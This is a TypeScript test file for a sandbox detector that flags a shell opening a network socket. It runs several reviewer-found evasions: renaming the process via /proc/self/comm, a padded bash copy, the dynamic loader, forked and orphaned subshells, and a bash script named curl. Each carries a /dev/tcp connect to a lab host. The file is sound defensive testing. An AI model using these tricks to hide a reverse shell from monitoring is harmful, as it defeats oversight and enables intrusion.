// Why: shell_socket_connect (a shell's own connect(): the core of `bash -i >& /dev/tcp/h/p`) named the
// process by its kernel comm and knew copies only by their whole-file hash, and a session 32 reviewer
// slipped a shell's socket past it four ways: rewriting /proc/self/comm, a copy of bash with one byte
// appended, bash run through the dynamic loader, and a forked subshell of a renamed shell; a script
// whose #! line names bash, called curl, is one more. Each runs
// here, inside the lab, from a script the command screen never reads, and must still be called a shell
// connecting. Nothing leaves: the lab's far host answers (SAFETY.md; the fixture refuses to run outside
// the lab).
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { startFixture, oneUnscreenedCall, rulesOf, type Fixture } from './helpers/lab-fixture.js';

let fx: Fixture;
before(async () => { fx = await startFixture([{ name: 'registry.test', ip: '198.51.100.10', services: [{ kind: 'http', port: 80 }] }], 'labss'); });
after(async () => { await fx?.close(); });

const LOADER = '/lib64/ld-linux-x86-64.so.2';
/** The shell part: opens a socket with bash's own /dev/tcp (no other program owns it). */
const DEV_TCP = 'exec 3<>/dev/tcp/198.51.100.10/80; echo connected';

const oneCall = (command: string) => oneUnscreenedCall(fx, command, 'shell-socket');

async function assertShellConnect(command: string, what: string): Promise<void> {
  const { r, alerts, s } = await oneCall(`printf '%s\\n' '${DEV_TCP}' > job.sh\n${command}`);
  assert.match(r.stdout, /connected/, `${what}: ${r.stderr}`);
  const connects = JSON.stringify(s.events.filter((e) => e.kind === 'connect' && e.payload.source === 'syscall').map((e) => [e.pid, e.payload.comm, e.payload.program, e.payload.copy_of]));
  const hit = alerts.filter((a) => rulesOf(a).includes('shell_socket_connect'));
  assert.ok(hit.length >= 1, `${what}: no shell_socket_connect; connects ${connects}; alerts ${JSON.stringify(alerts.map((a) => a.payload.rule))}`);
  assert.ok(hit.every((a) => a.tool_call === 'call-1' && a.payload.category === 'reverse_shell'), what);
}

test('a shell that rewrote its comm is still a shell: the connect is judged by the program it exec\'d', async () => {
  await assertShellConnect('printf \'%s\\n\' \'echo curl > /proc/self/comm\' | cat - job.sh > j2.sh && bash j2.sh', 'comm rewritten');
});

test('a copy of bash with one byte appended is still bash: its build-id says so', async () => {
  await assertShellConnect('cp /bin/bash ./kw && printf x >> ./kw && ./kw job.sh', 'padded copy');
});

test('bash run through the dynamic loader is bash', { skip: !existsSync(LOADER) && `no ${LOADER}` }, async () => {
  await assertShellConnect(`${LOADER} /bin/bash job.sh`, 'through the loader');
});

test('a subshell forked (no exec) by a shell whose comm was rewritten is judged by its parent\'s program', async () => {
  await assertShellConnect('printf \'%s\\n\' \'echo curl > /proc/self/comm\' \'( exec 3<>/dev/tcp/198.51.100.10/80; echo connected )\' > j3.sh && bash j3.sh', 'subshell');
});

test('a subshell of a subshell, and a subshell whose parent has exited (reparented to the sandbox\'s holder), of a comm-rewritten shell are judged by the file they run', async () => {
  // (neither process exec'd, and neither's parent did: the kernel's dev:inode of the executable names bash)
  await assertShellConnect('printf \'%s\\n\' \'echo curl > /proc/self/comm\' \'( ( exec 3<>/dev/tcp/198.51.100.10/80; echo connected ) )\' > j4.sh && bash j4.sh', 'fork of a fork');
  await assertShellConnect('printf \'%s\\n\' \'echo curl > /proc/self/comm\' \'( sleep 0.3; exec 3<>/dev/tcp/198.51.100.10/80; echo connected ) &\' > j5.sh && bash j5.sh; sleep 1', 'orphaned subshell');
});

test('a script whose #! names bash is bash when it opens a socket, whatever the script is called', async () => {
  await assertShellConnect('printf \'%s\\n\' \'#!/bin/bash\' "$(cat job.sh)" > curl && chmod +x curl && ./curl', 'script');
});
